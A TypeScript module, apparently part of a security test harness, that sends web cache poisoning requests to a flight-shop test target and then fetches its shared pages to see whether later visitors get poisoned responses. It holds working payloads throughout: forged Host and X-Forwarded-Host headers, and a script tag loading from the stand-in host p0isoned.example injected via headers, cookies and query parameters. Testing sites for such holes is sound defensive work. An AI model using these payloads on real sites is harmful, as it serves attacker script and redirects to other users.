import type { AttackedShop } from './attacked-shop.ts'
import { sendRaw } from './raw-requests.ts'

/** What an attacker wants others to be shown. */
export const POISON = 'p0isoned.example'

export const SHARED_PATHS = [
  '/',
  '/flights',
  '/login',
  '/register',
  '/forgot-password',
  '/accounts/manage-booking',
  '/terms',
  '/privacy',
  '/about-us',
  '/contact',
  '/careers',
] as const

const settings = (value: unknown) => `Cookie: settings=${encodeURIComponent(JSON.stringify(value))}`
const INJECTED = `"><script src=//${POISON}></script>`

interface Poisoning {
  readonly host?: string
  readonly query?: string
  readonly headers?: readonly string[]
  readonly absolute?: boolean
}

const POISONINGS: readonly Poisoning[] = [
  { host: POISON },
  { host: `127.0.0.1@${POISON}` },
  { host: POISON, absolute: true },
  { headers: [`X-Forwarded-Host: ${POISON}`, 'X-Forwarded-Proto: https'] },
  { headers: [`Forwarded: host=${POISON};proto=https`, `X-Host: ${POISON}`, `X-Forwarded-Server: ${POISON}`] },
  { headers: [`X-Original-URL: //${POISON}/`, `X-Rewrite-URL: //${POISON}/`, `X-Forwarded-Prefix: //${POISON}`] },
  { headers: [`Referer: https://${POISON}/`, `Origin: https://${POISON}`] },
  { headers: [`Accept-Language: ${POISON}`, `User-Agent: ${INJECTED}`] },
  { headers: [settings({ selectedLanguage: { value: INJECTED }, selectedCountry: { iso: INJECTED } })] },
  {
    headers: [settings({ selectedCurrency: { value: POISON, label: INJECTED }, selectedLanguage: { label: POISON } })],
  },
  { headers: [`Cookie: consent=${encodeURIComponent(INJECTED)}`] },
  { query: `?utm_source=${encodeURIComponent(INJECTED)}` },
  { query: `?lang=fr&utm_campaign=${POISON}` },
  { query: `?lang=${POISON}` },
  { query: `?next=//${POISON}/` },
]

/** Tries each way on each page that many share. @returns how many requests that were */
export async function poisonPages({ process: { url } }: AttackedShop): Promise<number> {
  let requests = 0
  for (const path of SHARED_PATHS)
    for (const { host, query = '', headers = [], absolute = false } of POISONINGS) {
      const target = `${absolute ? `http://${POISON}` : ''}${path}${query}`
      await sendRaw(url, { line: `GET ${target} HTTP/1.1`, ...(host && { host }), headers })
      requests++
    }
  return requests
}

/** The page as the next visitor is shown it, with and without the cookies that a first visit leaves. */
export async function pagesOfTheNext({ process: { url } }: AttackedShop): Promise<readonly string[]> {
  const cookies = ['', settings({ selectedLanguage: { value: 'LANG_FR' } }).slice('Cookie: '.length)]
  const pages: string[] = []
  for (const path of SHARED_PATHS)
    for (const cookie of cookies) {
      const page = await fetch(url + path, { headers: cookie ? { Cookie: cookie } : {} })
      pages.push([page.status, JSON.stringify([...page.headers]), await page.text()].join('\n'))
    }
  return pages
}
